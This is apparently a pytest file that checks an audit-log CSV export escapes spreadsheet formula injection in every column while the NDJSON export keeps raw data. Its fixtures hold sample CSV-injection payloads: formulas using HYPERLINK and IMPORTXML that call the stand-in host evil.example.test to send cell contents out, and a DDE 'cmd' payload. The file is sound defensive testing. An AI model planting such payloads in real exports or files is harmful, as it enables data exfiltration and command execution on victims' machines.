"""CSV formula injection is neutralised in every column; NDJSON stays raw data.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or
carriage return as a formula (OWASP "CSV Injection"). The CSV export prefixes
such a cell with ``'``, in every column: ids, names, the before/after JSON,
trace ids. NDJSON is data for programs, not a spreadsheet: its values are
exactly what is stored.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditui.views import csv_cell
from dmobs.ids import new_object_id
from dmobs.models import AuditLog
from dmobs.records import FIELDS, STORED_NAMES
from tests.auditui.helpers import LIST_URLS, ndjson_records, streamed

# The specification (OWASP "CSV Injection"), the oracle the export is checked
# against; dmobs.vocabulary.CSV_TRIGGERS is the implementation's copy.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)


def test_exactly_owasps_triggers_are_neutralised():
    """Every first character a cell can have (ASCII, C1 controls, a few wider
    ones): the cell gets a quote in front when, and only when, the character is
    one of OWASP's triggers; so a trigger dropped from, or a character added to,
    ``dmobs.vocabulary.CSV_TRIGGERS`` fails here."""
    firsts = [chr(c) for c in range(1, 0xA0)] + ["\u2028", "\uff1d", "\u00a0", "'"]
    quoted = {ch for ch in firsts if csv_cell(ch + "1+1") == "'" + ch + "1+1"}
    kept = {ch for ch in firsts if csv_cell(ch + "1+1") == ch + "1+1"}
    assert quoted == set(TRIGGERS)
    assert kept == set(firsts) - set(TRIGGERS)


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(
    value=st.one_of(
        st.text(),
        st.sampled_from(TRIGGERS).flatmap(lambda t: st.text().map(lambda s: t + s)),
        json_values,
    )
)
def test_no_cell_starts_a_formula_and_nothing_else_changes(value):
    cell = csv_cell(value)
    assert not cell.startswith(TRIGGERS)
    if value is None:
        assert cell == ""
        return
    text = (
        json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        if isinstance(value, dict | list)
        else str(value)
    )
    assert cell == ("'" + text if text.startswith(TRIGGERS) else text)


def formula_entry(trigger: str, i: int, now) -> AuditLog:
    """Every free-form field starts with ``trigger`` (as the Node services could write it)."""
    created = now - timedelta(seconds=i)
    oid = new_object_id(created.timestamp())
    return AuditLog(
        id=f"{trigger}{oid[1:]}",
        tenant_id=f"{trigger}tenant",
        actor_type="human",  # a CHECK constraint: human, agent or system
        actor_id=f"{trigger}actor",
        actor_name=f'{trigger}HYPERLINK("https://evil.example.test","Sarah")',
        action=f"{trigger}cmd|' /C calc'!A0",
        resource_type=f"{trigger}type",
        resource_id=f"{trigger}1+1",
        resource_name=f"{trigger}SUM(A1:A9)",
        description=f"{trigger}csvinj {i} 2+3",
        # JSON scalars: a string and a negative number are cells of their own.
        before=f'{trigger}IMPORTXML(CONCAT("https://evil.example.test/?",A1),"//a")',
        after=-5 if i % 2 else {"k": f"{trigger}1"},
        trace_id=f"{trigger}trace",
        created_at=created,
    )


@pytest.fixture
def formula_entries(world, client) -> list[AuditLog]:
    """One entry per formula trigger, every field starting with it; root signed in."""
    now = world.now + timedelta(minutes=5)
    entries = [formula_entry(t, i, now) for i, t in enumerate(TRIGGERS)]
    AuditLog.objects.bulk_create(entries)
    client.force_login(world.users["root"])
    return entries


@pytest.mark.django_db
def test_csv_export_neutralises_every_column(formula_entries, client):
    entries = formula_entries
    response = client.get(f"{LIST_URLS['manage']}/export?format=csv&range=all&q=csvinj")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = streamed(response)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == STORED_NAMES
    assert len(rows) == 1 + len(entries)
    by_id = {e.pk: e for e in entries}
    for row in rows[1:]:
        cells = dict(zip(STORED_NAMES, row, strict=True))
        entry = by_id[cells["id"][1:]]
        for name, cell in cells.items():
            assert not cell.startswith(TRIGGERS), (name, cell)
        # Nothing is lost: the cell is the stored value behind one apostrophe.
        for name in STORED_NAMES:
            if name in ("createdAt", "after", "actorType"):
                continue
            value = getattr(entry, {s: p for p, s in FIELDS}[name])
            assert cells[name] == "'" + str(value), name
        if isinstance(entry.after, int):
            assert cells["after"] == "'-5"
        else:
            assert json.loads(cells["after"]) == entry.after  # an object starts with "{"


@pytest.mark.django_db
def test_ndjson_export_is_the_raw_data(formula_entries, client):
    entries = formula_entries
    response = client.get(f"{LIST_URLS['manage']}/export?format=ndjson&range=all&q=csvinj")
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    records = {r["id"]: r for r in ndjson_records(response)}
    assert set(records) == {e.pk for e in entries}
    for entry in entries:
        record = records[entry.pk]
        for python_name, stored in FIELDS:
            if python_name != "created_at":
                assert record[stored] == getattr(entry, python_name), stored
